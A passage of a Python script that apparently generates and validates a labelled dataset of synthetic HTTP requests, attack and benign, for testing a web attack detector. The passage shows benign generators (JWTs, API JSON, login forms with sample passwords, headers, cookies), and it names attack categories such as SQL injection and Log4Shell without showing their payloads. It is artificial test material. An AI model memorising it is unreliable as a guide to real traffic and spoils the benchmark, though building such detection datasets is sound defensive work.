        v = "Basic " + b64("%s:%s" % (ascii_fold(ch(FIRST)).lower(), rstr(14)))
    return pl, v, ctx, v.startswith("data:")


# ---------------- JWT ----------------
def make_jwt():
    alg = ch(["HS256", "RS256", "ES256", "RS256"])
    hdr = {"alg": alg, "typ": "JWT"}
    if alg != "HS256":
        hdr["kid"] = rstr(20)
    now = epoch()
    claims = {
        "sub": ch([uid(), "auth0|" + hexs(24), str(R.randint(1000, 999999))]),
        "iat": now,
        "exp": now + ch([300, 900, 3600, 86400]),
        "iss": ch(
            [
                "https://auth.example.com/",
                "https://accounts.google.com",
                "https://cognito-idp.eu-west-1.amazonaws.com/eu-west-1_" + rstr(9),
            ]
        ),
        "aud": ch(["api.example.com", "app-web", uid()]),
    }
    if R.random() < 0.6:
        claims["scope"] = ch(["read:orders write:orders", "openid profile email", "admin:read"])
    if R.random() < 0.5:
        claims["email"] = email()
    if R.random() < 0.3:
        claims["name"] = full_name()
    sig = rbytes(32 if alg == "HS256" else (64 if alg == "ES256" else 256))
    return "%s.%s.%s" % (
        b64(json.dumps(hdr, separators=(",", ":")), url=True, pad=False),
        b64(json.dumps(claims, separators=(",", ":"), ensure_ascii=False), url=True, pad=False),
        b64(sig, url=True, pad=False),
    )


def b_jwt():
    t = make_jwt()
    pl = wpick([("header", 45), ("cookie", 25), ("json", 15), ("form", 10), ("query", 5)])
    ctx = {
        "endpoint": ch(
            ["/api/v1/me", "/api/v2/orders", "/oauth/token", "/api/v1/session/refresh", "/ws", "/api/v1/notifications"]
        ),
        "param": ch(["id_token", "refresh_token", "access_token", "token"]),
        "cookie": ch(["access_token", "id_token", "__Secure-next-auth.session-token", "jwt"]),
        "header": "Authorization",
    }
    if pl == "header":
        if R.random() < 0.8:
            return pl, t, dict(ctx, header="Authorization", hdr_prefix="Bearer "), False
        ctx["header"] = ch(["X-Id-Token", "X-Amzn-Oidc-Data", "X-Auth-Token"])
    if pl == "form":
        ctx.update(
            {
                "param": "assertion",
                "extra": [("grant_type", "urn:ietf:params:oauth:grant-type:jwt-bearer"), ("client_id", rstr(20))],
            }
        )
    return pl, t, ctx, False


# ---------------- API JSON ----------------
JSON_KEYS = [
    "en-US",
    "de-DE",
    "fr-CA",
    "pt-BR",
    "ja",
    "zh-Hant",
    "2024-05-01",
    "2025-01-31",
    "sku-1234-blue",
    "x-amz-meta-owner",
    "Content-Type",
    "shipping address",
    "Größe",
    "色",
    "utm_campaign",
    "gift_message",
    "color:primary",
    "breakpoint.md",
    "$schema",
    "$ref",
    "$id",
    "@context",
    "@type",
    "__typename",
    "constructor",
    "_id",
    "$numberDecimal",
    "$date",
    "feature.new-checkout",
    "A/B test",
    "price (EUR)",
    "Q&A",
    "1",
    "null",
    "true",
]
HARD_KEYS = ["$schema", "$ref", "$id", "@context", "__typename", "constructor", "$numberDecimal", "$date", "_id"]
QUERY_KEYS = [
    "filter[status]",
    "page[size]",
    "page[number]",
    "fields[articles]",
    "tags[]",
    "include[]",
    "expand[]",
    "q[title_cont]",
    "metadata[order_id]",
    "filters[title][$eq]",
    "filters[price][$lte]",
    "sort[created_at]",
    "where[category]",
    "options[locale]",
    "utm_campaign",
    "ids[]",
    "populate[author][fields][0]",
    "facets[brand][]",
]


def api_doc(P):
    k = R.randrange(10)
    if k == 0:
        return {
            "order": {
                "id": uid(),
                "customer": {"name": full_name(), "email": email(), "phone": phone()},
                "shipping_address": {
                    "line1": P,
                    "city": ch(CITIES),
                    "postal_code": digits(5),
                    "country": ch(["IE", "DE", "FR", "BR", "JP", "US"]),
                },
                "items": [
                    {
                        "sku": sku(),
                        "qty": R.randint(1, 3),
                        "unit_price": {"amount": R.randint(100, 99999), "currency": "EUR"},
                    }
                    for _ in range(R.randint(1, 3))
                ],
                "placed_at": iso_ts(),
                "notes": None,
            }
        }
    if k == 1:
        return {
            "settings": {
                "notifications": {"email": True, "sms": False, "push": {"marketing": False, "orders": True}},
                "timezone": ch(["Europe/Dublin", "America/Sao_Paulo", "Asia/Tokyo"]),
                "display_name": P,
            }
        }
    if k == 2:
        ev = [
            {
                "name": ch(["page_view", "add_to_cart", "purchase"]),
                "ts": iso_ts(),
                "props": {
                    "path": "/products/" + slug(),
                    "label": (P if j == 0 else ch(PRODUCTS)),
                    "value": round(R.random() * 200, 2),
                },
            }
            for j in range(R.randint(1, 2))
        ]
        return {"events": ev, "anonymous_id": uid()}
    if k == 3:
        return {
            "flags": {"new_checkout": ch([True, False]), "search_v2": {"enabled": True, "rollout": R.randint(0, 100)}},
            "context": {"user_id": uid(), "country": ch(["DE", "US", "IN"]), "note": P},
        }
    if k == 4:
        return {
            "payment_intent": {
                "amount": R.randint(100, 500000),
                "currency": ch(["eur", "usd", "gbp"]),
                "description": P,
                "metadata": {"order_id": str(R.randint(10000, 99999)), "channel": "web"},
                "capture_method": "automatic",
            }
        }
    if k == 5:
        return {
            "calendar_event": {
                "title": P,
                "start": iso_ts(),
                "end": iso_ts(),
                "attendees": [email() for _ in range(R.randint(1, 3))],
                "location": ch(STREETS),
                "recurrence": ["RRULE:FREQ=WEEKLY;BYDAY=MO,WE"],
            }
        }
    if k == 6:
        return {
            "ticket": {
                "subject": P,
                "priority": ch(["low", "normal", "high"]),
                "requester": {"email": email(), "phone": phone()},
                "custom_fields": [{"id": R.randint(1000, 9999), "value": ch(["billing", "shipping", "tech"])}],
            }
        }
    if k == 7:
        return {
            "_id": {"$oid": hexs(24)},
            "name": P,
            "price": {"$numberDecimal": "%d.%02d" % (R.randint(1, 500), R.randint(0, 99))},
            "created": {"$date": iso_ts()},
        }
    if k == 8:
        return {
            "$schema": "https://json-schema.org/draft/2020-12/schema",
            "$id": "https://example.com/schemas/%s.json" % slug(),
            "title": P,
            "type": "object",
            "properties": {"address": {"$ref": "#/$defs/address"}, "email": {"type": "string", "format": "email"}},
        }
    return {
        "inventory": {
            "sku": sku(),
            "warehouse": ch(["DUB1", "FRA2", "GRU1"]),
            "on_hand": R.randint(0, 500),
            "reserved": R.randint(0, 20),
            "updated_by": P,
        }
    }


def api_value():
    return ch(
        [
            ch(STREETS),
            full_name(),
            email(),
            phone(),
            price(),
            iso_ts(),
            iso_date(),
            uid(),
            sku(),
            "Leave at the back door — dog is friendly!",
            "Gift for Mum's 60th",
            "Ring twice; flat 2/B",
            "Team lunch @ O'Neill's",
            "Budget Q3 (rev. 2)",
            ch(PRODUCTS),
            "Net 30; PO #%s" % digits(6),
        ]
    )


def b_api_json():
    pl = wpick([("json", 40), ("json_key", 20), ("path", 15), ("query", 12), ("query_key", 13)])
    ctx = {
        "endpoint": ch(
            [
                "/api/v2/orders",
                "/api/v1/settings",
                "/api/v1/events",
                "/api/v1/tickets",
                "/api/v1/payments",
                "/api/v1/inventory",
                "/api/v1/calendar/events",
                "/api/v2/products",
            ]
        )
    }
    if pl == "json":
        v = api_value()
        ctx["doc"] = api_doc
        ctx["param"] = "value"
        return pl, v, ctx, False
    if pl == "json_key":
        key = ch(JSON_KEYS)
        val = ch([api_value(), True, R.randint(1, 999), {"label": ch(PRODUCTS), "visible": True}, ["a", "b"]])
        if key == "$ref":
            val = "#/$defs/" + ch(["address", "money", "customer"])
        if key == "@context":
            val = "https://schema.org"
        ctx["val"] = val
        if R.random() < 0.5:
            ctx["doc"] = lambda K: ch(
                [
                    {"translations": {K: {"title": ch(PRODUCTS)}}, "default_locale": "en"},
                    {"custom_attributes": {K: val}, "product_id": R.randint(1, 9999)},
                    {"data": {K: val, "id": uid()}},
                ]
            )
        return pl, key, ctx, key in HARD_KEYS
    if pl == "path":
        v = ch(
            [
                uid(),
                str(R.randint(1, 999999)),
                sku(),
                "INV-%d-%04d" % (ch([2023, 2024]), R.randint(1, 9999)),
                "ord_" + rstr(14),
                iso_date(),
                ascii_fold(ch(FIRST)).lower() + "." + ascii_fold(ch(LAST)).lower(),
            ]
        )
        ctx["pathslot"] = ch(
            [
                "/api/v2/orders/{p}",
                "/users/{p}/profile",
                "/api/v1/products/{p}",
                "/api/v1/invoices/{p}",
                "/api/v1/reports/daily/{p}",
                "/api/v2/customers/{p}/addresses",
            ]
        )
        return pl, v, ctx, False
    if pl == "query":
        ctx["param"] = ch(
            ["created_after", "price_min", "ids", "status", "email", "phone", "postal_code", "fields", "tz", "since"]
        )
        v = {
            "created_after": iso_ts(),
            "price_min": "%d.%02d" % (R.randint(1, 99), R.randint(0, 99)),
            "ids": ",".join(str(R.randint(1, 9999)) for _ in range(R.randint(2, 6))),
            "status": ch(["open,pending", "shipped", "cancelled|refunded"]),
            "email": email(),
            "phone": phone(),
            "postal_code": ch(["D02 X285", "10115", "SW1A 1AA", "100-0005"]),
            "fields": "id,name,price,variants(id,sku)",
            "tz": ch(["Europe/Berlin", "America/New_York"]),
            "since": str(epoch()),
        }[ctx["param"]]
        return pl, v, ctx, False
    key = ch(QUERY_KEYS)
    ctx["val"] = ch(
        ["open", "25", "2", "title,body", "customer", "price_desc", str(R.randint(1, 999)), "hello world", "de", "name"]
    )
    return pl, key, ctx, "$" in key or "[" in key


# ---------------- prose ----------------
def b_prose():
    t = prose(1, 5)
    pl = wpick([("json", 50), ("form", 25), ("multipart", 10), ("query", 15)])
    if pl == "query":
        t = prose(1, 1)
    ctx = {
        "param": ch(["comment", "review", "message", "body", "feedback", "text", "description"]),
        "endpoint": ch(
            [
                "/api/v1/reviews",
                "/api/v1/comments",
                "/support/ticket",
                "/feedback",
                "/api/v2/products/{id}/reviews",
                "/contact",
                "/api/v1/messages",
            ]
        ),
    }
    if pl == "json" and R.random() < 0.6:
        ctx["doc"] = lambda P: ch(
            [
                {
                    "review": {
                        "rating": R.randint(1, 5),
                        "title": ch(["Great!", "Okay", "Not as described", "Love it"]),
                        "body": P,
                        "product_id": R.randint(1, 9999),
                        "verified_purchase": True,
                    }
                },
                {"message": {"thread_id": uid(), "text": P, "attachments": []}},
                {"ticket": {"subject": ch(["Order issue", "Question", "Refund"]), "description": P, "channel": "web"}},
            ]
        )
    return pl, t, ctx, is_tricky(t)


# ---------------- forms ----------------
PASSWORDS = [
    "Tr0ub4dor&3",
    "correct horse battery staple",
    "Summer'24!",
    "P@ss;word<>2024",
    "n0t-the-real-0ne#",
    "Kx9$mQ2!vL#8",
    "ilovemycat<3",
    "Winter2024!!",
    "p4ss w0rd with spaces",
    "Ü8ber!Sicher",
    "(^_^)/~secret",
    "--MyPass--99",
    '"quoted"pass1',
]


def b_forms():
    k = R.randrange(6)
    pl = "multipart" if R.random() < 0.15 else "form"
    if k == 0:
        fields = [("username", email()), ("password", ch(PASSWORDS)), ("remember_me", "on")]
        pk, ep = "password", "/login"
    elif k == 1:
        pw = ch(PASSWORDS)
        fields = [
            ("full_name", full_name()),
            ("email", email()),
            ("password", pw),
            ("password_confirmation", pw),
            ("phone", phone()),
            ("terms", "accepted"),
        ]
        pk, ep = ch(["full_name", "password", "phone"]), "/signup"
    elif k == 2:
        fields = [
            ("name", full_name()),
            ("email", email()),
            ("subject", ch(["Order question", "Partnership", "Press", "Wholesale"])),
            ("message", prose(1, 3)),
        ]
        pk, ep = "message", "/contact"
    elif k == 3:
        fields = [
            ("address_line1", ch(STREETS)),
            ("address_line2", ch(["", "Apt 4", "c/o Reception", "Floor 3 & 4"])),
            ("city", ch(CITIES)),
            ("postal_code", ch(["D02 X285", "10115", "SW1A 1AA", "75001", "01310-100"])),
            ("country", ch(["IE", "DE", "GB", "FR", "BR"])),
            (
                "delivery_notes",
                ch(["Leave with neighbour (no. 12)", "Call on arrival: " + phone(), "Gate code #4521*", "N/A"]),
            ),
        ]
        pk, ep = ch(["address_line1", "delivery_notes", "address_line2"]), "/checkout/address"
    elif k == 4:
        fields = [
            ("display_name", full_name()),
            ("bio", prose(1, 2)),
            ("website", "https://" + ch(SITES) + "/~" + low(6)),
            ("pronouns", ch(["she/her", "he/him", "they/them"])),
        ]
        pk, ep = ch(["bio", "display_name", "website"]), "/settings/profile"
    else:
        fields = [
            ("email", email()),
            ("frequency", ch(["weekly", "monthly"])),
            ("topics[]", "deals"),
            ("topics[]", "new-arrivals"),
        ]
        pk, ep = "email", "/newsletter/subscribe"
    payload = dict(fields)[pk]
    if payload == "":
        payload = "Apt 4"
        fields = [(a, (payload if a == pk else b)) for a, b in fields]
    others = [(a, b) for a, b in fields if a != pk]
    ctx = {"param": pk, "endpoint": ep, "extra": others, "no_filler": R.random() < 0.7}
    if pl == "multipart":
        parts = [(a, b, None, None) for a, b in fields if a != pk]
        parts.insert(R.randint(0, len(parts)), (pk, PH, None, None))
        if R.random() < 0.5:
            fn = filename()
            c, ct = file_content(fn)
            parts.append(("attachment", c, fn, ct))
        ctx["mp_parts"] = parts
    hard = pk == "password" or is_tricky(payload)
    return pl, payload, ctx, hard


# ---------------- headers / cookies ----------------
def b_headers():
    k = R.randrange(20)
    site = ch(SITES)
    hv = [
        (
            "X-Forwarded-For",
            "%s, 10.%d.%d.%d"
            % (
                ch(["203.0.113.", "198.51.100.", "192.0.2."]) + str(R.randint(2, 250)),
                R.randint(0, 255),
                R.randint(0, 255),
                R.randint(1, 254),
            ),
        ),
        ("X-Request-Id", uid()),
        ("traceparent", "00-%s-%s-01" % (hexs(32), hexs(16))),
        ("X-Amzn-Trace-Id", "Root=1-%s-%s" % (hexs(8), hexs(24))),
        ("Referer", "https://%s/%s?page=%d" % (site, slug(), R.randint(1, 5))),
        ("X-Api-Version", ch(["2024-06-01", "v2", "2.3", "2023-10-16"])),
        ("If-None-Match", 'W/"%s"' % hexs(16)),
        ("X-Forwarded-Host", ch(SITES)),
        ("X-Client-Version", "%d.%d.%d (build %s)" % (R.randint(1, 9), R.randint(0, 30), R.randint(0, 9), digits(4))),
        ("Accept-Language", "de-CH,de;q=0.9,fr-CH;q=0.8,en;q=0.5"),
        ("X-Correlation-Id", "%s-%s" % (low(8), digits(6))),
        ("X-Device-Id", uid()),
        ("X-Timezone", ch(["America/Sao_Paulo", "Europe/Warsaw", "Asia/Kolkata"])),
        ("Sec-CH-UA", '"Chromium";v="124", "Google Chrome";v="124", "Not-A.Brand";v="99"'),
        ("Forwarded", "for=%s;proto=https;by=203.0.113.43" % ("192.0.2." + str(R.randint(2, 250)))),
        ("X-Http-Method-Override", ch(["PATCH", "PUT", "DELETE"])),
        ("Prefer", ch(["return=representation", "respond-async, wait=10"])),
        ("X-Hub-Signature-256", "sha256=" + hexs(64)),
        ("Idempotency-Key", uid()),
        ("X-Original-URL", ch(["/account/orders?page=2", "/products/%s" % slug(), "/"])),
    ]
    name, v = hv[k]
    return (
        "header",
        v,
        {"header": name, "endpoint": ch(["/api/v1/me", "/api/v2/orders", "/", "/api/v1/cart", "/api/v1/products"])},
        name in ("Sec-CH-UA", "Forwarded", "X-Original-URL", "X-Forwarded-For", "X-Forwarded-Host"),
    )


def b_cookies():
    k = R.randrange(14)
    cv = [
        (
            "cart",
            json.dumps({"items": [{"sku": sku(), "q": R.randint(1, 3)}], "currency": "EUR"}, separators=(",", ":")),
        ),
        (
            "OptanonConsent",
            "isGpcEnabled=0&datestamp=%s&version=202403.1.0&groups=C0001:1,C0002:%d,C0004:0"
            % (urllib.parse.quote("Mon Jun 03 2024 10:15:22 GMT+0200"), R.randint(0, 1)),
        ),
        ("_gcl_au", "1.1.%s.%d" % (digits(10), epoch())),
        ("_fbp", "fb.1.%d.%s" % (epoch() * 1000, digits(10))),
        ("ajs_anonymous_id", '"%s"' % uid()),
        ("remember_user_token", "BAhbB1sGaQ%s--%s" % (rstr(20), hexs(40))),
        ("XSRF-TOKEN", b64(rbytes(40))),
        ("csrftoken", rstr(32)),
        ("i18n_redirected", ch(["de", "fr", "pt-br"])),
        ("recently_viewed", "|".join(sku() for _ in range(3))),
        (
            "cookieyes-consent",
            "consentid:%s,consent:yes,action:yes,necessary:yes,functional:no,analytics:yes" % rstr(32),
        ),
        ("last_search", search_term()),
        (
            "session",
            "%s.%s.%s"
            % (
                b64(json.dumps({"user_id": R.randint(1, 9999), "_fresh": True}), url=True, pad=False),
                b64(rbytes(4), url=True, pad=False),
                b64(rbytes(20), url=True, pad=False),
            ),
        ),
        (
            "prefs",
            json.dumps(
                {"theme": ch(["dark", "light"]), "density": "compact", "lang": ch(["en", "ja"])}, separators=(",", ":")
            ),
        ),
    ]
    name, v = cv[k]
    return (
        "cookie",
        v,
        {
            "cookie": name,
            "endpoint": ch(["/", "/account", "/api/v1/cart", "/products/" + slug(), "/api/v1/recommendations"]),
        },
        name in ("last_search", "cart", "prefs", "OptanonConsent"),
    )


# ---------------- markdown ----------------
def markdown_doc():
    parts = []
    parts.append(
        "# %s"
        % ch(["Release notes 5.12", "Getting started", "Team handbook", "Recipe: Lemon tart", "Trip plan – Lisbon"])
    )
    for _ in range(R.randint(2, 5)):
        k = R.randrange(8)
        if k == 0:
            parts.append(prose(1, 2))
        elif k == 1:
            parts.append(
                "\n".join(
                    "- %s"
                    % ch(
                        [
                            "Fixed crash on login (#%d)" % R.randint(100, 999),
                            "Improved search ranking",
                            "Updated **dependencies**",
                            "Dropped support for iOS 14",
                            "Added `--dry-run` flag",
                        ]
                    )
                    for _ in range(R.randint(2, 4))
                )
            )
        elif k == 2:
            parts.append(
                "See the [docs](https://%s/%s) or ![diagram](https://cdn.%s/img/%s.png)"
                % (ch(SITES), slug(), ch(SITES), low(8))
            )
        elif k == 3:
            parts.append("| Plan | Price | Seats |\n|------|-------|-------|\n| Basic | $9 | 1 |\n| Team | $49 | 10 |")
        elif k == 4:
            lang, code = code_snippet()
            parts.append("```%s\n%s\n```" % (lang, code))
        elif k == 5:
            parts.append("> %s\n> — %s" % (sentence(), full_name()))
        elif k == 6:
            parts.append("1. Preheat oven to 180 °C\n2. Mix flour & butter\n3. Bake 25–30 min")
        else:
            parts.append("**Note:** use `Ctrl+Shift+P` → *Select Interpreter*; run `select-editor` if asked.")
    return "\n\n".join(parts) + "\n"


def b_markdown():
    md = markdown_doc()
    pl = wpick([("json", 60), ("form", 20), ("multipart", 20)])
    ctx = {
        "param": ch(["body_markdown", "content", "readme", "notes", "description"]),
        "endpoint": ch(
            ["/api/v1/wiki/pages", "/api/v2/notes", "/api/v1/releases", "/api/v1/repos/{id}/readme", "/api/v1/docs"]
        ),
    }
    if pl == "multipart" and R.random() < 0.5:
        ctx.update(
            {"mp": "content", "mp_filename": ch(["README.md", "CHANGELOG.md", "notes.md"]), "mp_ctype": "text/markdown"}
        )
    return pl, md, ctx, "```" in md or is_tricky(md)


BENIGN_KINDS = [
    ("benign_richtext", b_richtext, 100),
    ("benign_code", b_code, 130),
    ("benign_search", b_search, 130),
    ("benign_graphql", b_graphql, 90),
    ("benign_files", b_files, 90),
    ("benign_urls", b_urls, 90),
    ("benign_base64", b_base64, 80),
    ("benign_jwt", b_jwt, 70),
    ("benign_api_json", b_api_json, 140),
    ("benign_prose", b_prose, 100),
    ("benign_forms", b_forms, 100),
    ("benign_headers", b_headers, 50),
    ("benign_cookies", b_cookies, 50),
    ("benign_markdown", b_markdown, 60),
]


# ==========================================================================
# MAIN
# ==========================================================================
ROWS = []


def add_row(label, cat, n, placement, payload, hard, req):
    method, path, query, headers, body = req
    ROWS.append(
        {
            "id": "v12-%s-%s-%04d" % ("a" if label == "attack" else "b", cat, n),
            "label": label,
            "category": cat,
            "method": method,
            "path": path,
            "query": query,
            "headers": headers,
            "body": body,
            "placement": placement,
            "payload": payload,
            "hard": bool(hard),
            "source": SRC,
        }
    )


def attack_ctx(cat, pl, spec):
    ctx = {
        "param": ch(PARAMS[cat]),
        "endpoint": ch(ENDPOINTS[cat]),
        "pathslot": ch(PATHSLOT.get(cat, PATHSLOT_GENERIC)),
        "header": ch(HDRS.get(cat, HDRS_GENERIC)),
        "cookie": ch(COOKIES.get(cat, COOKIES_GENERIC)),
    }
    if pl == "multipart":
        r = R.random()
        if cat in ("sqli", "xss", "cmdi", "log4shell", "crlf", "ssti") and r < 0.25:
            fn_content, fn_type = ch([("hello\n", "text/plain"), ("id,name\n1,a\n", "text/csv")])
            ctx.update({"mp": "filename", "mp_content": fn_content, "mp_ctype": fn_type})
        elif cat in ("ssti", "code_injection", "cmdi") and r < 0.4:
            ctx.update(
                {
                    "mp": "content",
                    "mp_filename": ch(["template.html", "script.txt", "job.json", "rules.yaml"]),
                    "mp_ctype": "text/plain",
                }
            )
        else:
            ctx["mp"] = "field"
    ctx.update(spec["ctx"])
    return ctx


def gen_attacks():
    for cat in ATTACK_CATS:
        plan = PLACEMENTS * 4 + R.sample(PLACEMENTS, N_PER_CAT - 4 * len(PLACEMENTS))
        R.shuffle(plan)
        by_pl = collections.OrderedDict((p, []) for p in PLACEMENTS)
        for i, p in enumerate(plan):
            by_pl[p].append(i)
        hard_idx = [ch(by_pl[p]) for p in PLACEMENTS]
        rest = [i for i in range(len(plan)) if i not in hard_idx]
        hard_idx += R.sample(rest, N_HARD - len(hard_idx))
        seen = []
        for i, pl in enumerate(plan):
            hard = i in hard_idx
            for attempt in range(80):
                wire = hard and (pl in URLISH or pl in ("json", "json_key")) and R.random() < 0.4
                spec = GEN[cat](pl, hard and not wire)
                mode = spec["mode"]
                if wire:
                    if mode != "std":
                        continue
                    mode = ch(["double", "full", "double"]) if pl in URLISH else "jsonesc"
                key = (spec["p"], pl, mode)
                # prefer payloads not yet used anywhere in this category, then per placement
                if (attempt < 50 and spec["p"] not in [k[0] for k in seen]) or (attempt >= 50 and key not in seen):
                    break
            seen.append(key)
            ctx = attack_ctx(cat, pl, spec)
            req = build(pl, spec["p"], mode, ctx)
            add_row("attack", cat, i + 1, pl, spec["p"], hard, req)


def gen_benign():
    for cat, fn, n in BENIGN_KINDS:
        seen = []
        for i in range(n):
            for attempt in range(60):
                pl, payload, ctx, hard = fn()
                if (pl, payload) not in seen:
                    break
            seen.append((pl, payload))
            req = build(pl, payload, "std", ctx)
            add_row("benign", cat, i + 1, pl, payload, hard, req)


# --------------------------------------------------------------------------
# validation
# --------------------------------------------------------------------------
KEYS = [
    "id",
    "label",
    "category",
    "method",
    "path",
    "query",
    "headers",
    "body",
    "placement",
    "payload",
    "hard",
    "source",
]
URI_OK = set(string.ascii_letters + string.digits + "-._~:/?#[]@!$&'()*+,;=%")
ID_RE = re.compile(r"^v12-(a|b)-([a-z0-9_]+)-(\d{4})$")


def _decodes(s):
    a = urllib.parse.unquote(s, errors="replace")
    b = urllib.parse.unquote_plus(s, errors="replace")
    return [s, a, b, urllib.parse.unquote(a, errors="replace"), urllib.parse.unquote_plus(b, errors="replace")]


def _walk(o):
    if isinstance(o, dict):
        for k, v in o.items():
            yield k
            yield from _walk(v)
    elif isinstance(o, list):
        for v in o:
            yield from _walk(v)
    elif isinstance(o, str):
        yield o


def _subvalues(o):
    yield o
    if isinstance(o, dict):
        for v in o.values():
            yield from _subvalues(v)
    elif isinstance(o, list):
        for v in o:
            yield from _subvalues(v)


def located(r):
    p, pl, h, body = r["payload"], r["placement"], r["headers"], r["body"]
    if pl in ("json", "json_key"):
        doc = json.loads(body)
        if any(p in s for s in _walk(doc)):
            return True
        try:
            obj = json.loads(p)
        except ValueError:
            return False
        return any(obj == v for v in _subvalues(doc))
    if pl in ("query", "query_key"):
        cands = _decodes(r["query"])
    elif pl == "path":
        cands = _decodes(r["path"])
    elif pl == "form":
        cands = _decodes(body)
    elif pl == "header":
        cands = [x for k, v in h.items() if k != "Cookie" for x in _decodes(v)]
    elif pl == "cookie":
        cands = _decodes(h.get("Cookie", ""))
    else:
        cands = _decodes(body)
    p2 = urllib.parse.unquote(p, errors="replace")
    return any(p in c or p2 in c for c in cands)


def validate(path):
    errors = []
    rows = []
    with open(path, encoding="utf-8") as fh:
        for ln, line in enumerate(fh, 1):
            try:
                rows.append(json.loads(line))
            except ValueError as e:
                errors.append("line %d does not parse: %s" % (ln, e))
    ids = collections.Counter(r["id"] for r in rows)
    errors += ["duplicate id %s" % i for i, c in ids.items() if c > 1]
    not_located = []
    for r in rows:
        rid = r.get("id")
        if list(r.keys()) != KEYS:
            errors.append("%s: keys %s" % (rid, list(r.keys())))
            continue
        m = ID_RE.match(r["id"])
        if not m or m.group(2) != r["category"] or (m.group(1) == "a") != (r["label"] == "attack"):
            errors.append("%s: bad id" % rid)
        if r["label"] == "attack" and r["category"] not in ATTACK_CATS:
            errors.append("%s: bad attack category" % rid)
        if r["label"] == "benign" and not r["category"].startswith("benign_"):
            errors.append("%s: bad benign category" % rid)
        if r["placement"] not in PLACEMENTS:
            errors.append("%s: bad placement" % rid)
        if not r["path"].startswith("/"):
            errors.append("%s: path must start with /" % rid)
        if r["query"].startswith("?"):
            errors.append("%s: query has leading ?" % rid)
        for part in ("path", "query"):
            bad = [c for c in r[part] if c not in URI_OK]
            if bad:
                errors.append("%s: unencoded chars in %s: %r" % (rid, part, bad[:5]))
            if not r["hard"] and re.search(r"%(?![0-9A-Fa-f]{2})", r[part]):
                errors.append("%s: stray %% in %s" % (rid, part))
        h = r["headers"]
        if not isinstance(h, dict) or "User-Agent" not in h or "Accept" not in h:
            errors.append("%s: missing UA/Accept" % rid)
        for k, v in h.items():
            if not isinstance(v, str) or any(not (0x20 <= ord(c) < 0x7F) for c in v):
                errors.append("%s: header %s not printable ASCII" % (rid, k))
        b = r["body"]
        if b is not None:
            ct = h.get("Content-Type", "")
            if not ct:
                errors.append("%s: body without Content-Type" % rid)
            if ct.startswith("application/json"):
                try:
                    json.loads(b)
                except ValueError as e:
                    errors.append("%s: JSON body does not parse: %s" % (rid, e))
            elif ct.startswith("multipart/form-data"):
                bnd = ct.split("boundary=", 1)[1]
                if not b.startswith("--" + bnd + "\r\n") or not b.endswith("--" + bnd + "--\r\n"):
                    errors.append("%s: malformed multipart" % rid)
            elif ct.startswith("application/x-www-form-urlencoded"):
                if any(c not in URI_OK for c in b):
                    errors.append("%s: unencoded form body" % rid)
        if r["placement"] in ("json", "json_key", "form", "multipart") and b is None:
            errors.append("%s: placement needs a body" % rid)
        if r["placement"] == "cookie" and "Cookie" not in h:
            errors.append("%s: cookie placement without Cookie header" % rid)
        if not located(r):
            not_located.append(rid)
    cnt = collections.Counter(r["category"] for r in rows)
    for c in ATTACK_CATS:
        if cnt[c] < 35:
            errors.append("category %s has only %d" % (c, cnt[c]))
        pls = set(r["placement"] for r in rows if r["category"] == c)
        if len(pls) != len(PLACEMENTS):
            errors.append("category %s misses placements %s" % (c, sorted(set(PLACEMENTS) - pls)))
    n_att = sum(1 for r in rows if r["label"] == "attack")
    n_ben = sum(1 for r in rows if r["label"] == "benign")
    if n_att < 560:
        errors.append("only %d attacks" % n_att)
    if n_ben < 1100:
        errors.append("only %d benign" % n_ben)
    errors += ["%s: payload not found at its placement" % i for i in not_located]
    return rows, errors


def summary(rows):
    cats = sorted(set(r["category"] for r in rows), key=lambda c: (c not in ATTACK_CATS, c))
    print("\n%-22s %6s %5s | %s" % ("category", "rows", "hard", " ".join("%6s" % p[:6] for p in PLACEMENTS)))
    print("-" * 104)
    for c in cats:
        rs = [r for r in rows if r["category"] == c]
        pc = collections.Counter(r["placement"] for r in rs)
        print(
            "%-22s %6d %5d | %s" % (c, len(rs), sum(r["hard"] for r in rs), " ".join("%6d" % pc[p] for p in PLACEMENTS))
        )
    print("-" * 104)
    for lab in ("attack", "benign"):
        rs = [r for r in rows if r["label"] == lab]
        pc = collections.Counter(r["placement"] for r in rs)
        print(
            "%-22s %6d %5d | %s"
            % ("TOTAL " + lab, len(rs), sum(r["hard"] for r in rs), " ".join("%6d" % pc[p] for p in PLACEMENTS))
        )
    pc = collections.Counter(r["placement"] for r in rows)
    print(
        "%-22s %6d %5d | %s"
        % ("TOTAL", len(rows), sum(r["hard"] for r in rows), " ".join("%6d" % pc[p] for p in PLACEMENTS))
    )
    mc = collections.Counter(r["method"] for r in rows)
    print("\nmethods:", dict(sorted(mc.items())))


def main():
    gen_attacks()
    gen_benign()
    with open(OUT, "w", encoding="utf-8") as fh:
        for r in ROWS:
            fh.write(json.dumps(r, ensure_ascii=False) + "\n")
    rows, errors = validate(OUT)
    summary(rows)
    print("\nwrote %d rows to %s" % (len(rows), OUT))
    if errors:
        print("\nVALIDATION ERRORS (%d):" % len(errors))
        for e in errors[:80]:
            print("  " + e)
        sys.exit(1)
    print("validation: OK (all lines parse, ids unique, minimums met, JSON bodies parse, payloads located)")


if __name__ == "__main__":
    main()
